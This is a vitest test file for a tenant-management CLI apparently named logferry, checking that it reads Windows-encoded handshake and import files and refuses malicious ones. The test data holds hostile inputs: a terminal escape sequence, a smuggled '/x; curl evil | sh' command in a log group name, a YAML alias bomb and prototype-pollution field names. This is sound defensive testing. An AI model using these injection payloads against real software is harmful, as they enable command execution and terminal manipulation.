/** What operators and customers really hand over: files of Windows, files that are broken, files that mean harm. */
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { goodRow, handshake, withOperator } from './operator.ts';

const operator = withOperator();
const ESCAPE = '\u{1B}]0;you are hacked\u{7}';
let folder: string;

beforeAll(async () => void (folder = await mkdtemp(join(tmpdir(), 'logferry-odd-'))));
afterAll(() => rm(folder, { recursive: true, force: true }));

async function fileOf(content: string | Buffer): Promise<string> {
  const file = join(folder, 'handed-over');
  await writeFile(file, content);
  return file;
}

describe('a handshake', () => {
  it.each([
    ['UTF-8 with a byte order mark', (text: string) => Buffer.from(`\u{FEFF}${text}`)],
    ['UTF-16, as `>` of Windows PowerShell writes it', (text: string) => Buffer.from(`\u{FEFF}${text}\r\n`, 'utf16le')],
    ['UTF-16, big end first', (text: string) => Buffer.from(`\u{FEFF}${text}`, 'utf16le').swap16()],
  ])('is read in %s', async (_, encode) => {
    const { row } = await operator().json<{ row: { external_id: string } }>('add', 'acme');
    const file = await fileOf(encode(handshake('acme', '111111111111', row.external_id)));
    await operator().json('set', 'acme', '--from-handshake', file);
    expect(await operator().row('acme')).toMatchObject({ log_distribution_role_arn: expect.stringContaining('111111111111') as string });
  });

  it('cannot steer the terminal by what is quoted of it', async () => {
    await operator().json('add', 'acme');
    const file = await fileOf(handshake(`x${ESCAPE}`, '111111111111', 'any'));
    const { code, stderr } = await operator().run(['tenant', 'set', 'acme', '--from-handshake', file]);
    expect({ code, stderr }).toEqual({
      code: 1,
      stderr: expect.stringMatching(/^logferry: the handshake is tenant x\P{Cc}*\n$/u) as string,
    });
  });

  it('cannot name a log group that is none', async () => {
    const { row } = await operator().json<{ row: { external_id: string } }>('add', 'acme');
    const file = await fileOf(handshake('acme', '111111111111', row.external_id, { log_groups: { application: '/x; curl evil | sh' } }));
    const { code, stderr } = await operator().run(['tenant', 'set', 'acme', '--from-handshake', file]);
    expect({ code, stderr }).toEqual({
      code: 1,
      stderr: expect.stringContaining('log_groups.application: a name of a log group') as string,
    });
  });
});

describe('a file to import', () => {
  it('is read with a byte order mark and the line ends of Windows', async () => {
    const input = '\u{FEFF}version: 1\r\ntenants:\r\n  acme:\r\n    target_region: us-east-1\r\n';
    expect(await operator().run(['tenant', 'import', '-', '--yes'], { input })).toMatchObject({ code: 0 });
    expect(await operator().row('acme')).toMatchObject({ target_region: 'us-east-1' });
  });

  it.each([
    ['an alias of itself', 'version: 1\ntenants:\n  acme: &a\n    log_group_name: *a\n', 'an alias that stands for what it is part of'],
    ['brackets without end', `version: 1\ntenants:\n  acme: ${'['.repeat(20_000)}`, 'and 6'],
    ['fields that every object has', 'version: 1\ntenants:\n  acme: {toString: x, constructor: y}\n', 'a row has no field "toString"'],
  ])('with %s is refused, in some lines', async (_, input, why) => {
    const { code, stdout, stderr } = await operator().run(['tenant', 'import', '-', '--yes'], { input });
    expect({ code, stdout, stderr }).toEqual({ code: 1, stdout: '', stderr: expect.stringContaining(why) as string });
    expect(stderr.split('\n').length).toBeLessThan(110);
    expect(stderr).not.toContain('    at ');
  });

  it('may add fields that every object has, as it says', async () => {
    const input = 'version: 1\ntenants:\n  acme: {toString: x, hasOwnProperty: y}\n';
    expect(await operator().run(['tenant', 'import', '-', '--yes', '--other-fields'], { input })).toMatchObject({ code: 0, stderr: '' });
    expect(await operator().row('acme')).toMatchObject({ toString: 'x', hasOwnProperty: 'y' });
  });
});

describe('a command line', () => {
  it.each(['__proto__', 'constructor', 'toString'])('sets no field %s', async (field) => {
    await operator().put(goodRow('acme', '111111111111'));
    const { code, stderr } = await operator().run(['tenant', 'set', 'acme', `${field}=x`]);
    expect({ code, stderr }).toEqual({ code: 64, stderr: expect.stringContaining(`a row has no field "${field}"`) as string });
  });

  it('with an endpoint in the environment that is none says so', async () => {
    const { code, stderr } = await operator().run(['tenant', 'list'], { environment: { AWS_ENDPOINT_URL: 'localhost' } });
    expect({ code, stderr }).toEqual({ code: 1, stderr: expect.stringMatching(/^logferry: the endpoint is no URL; .*\n$/) as string });
  });
});
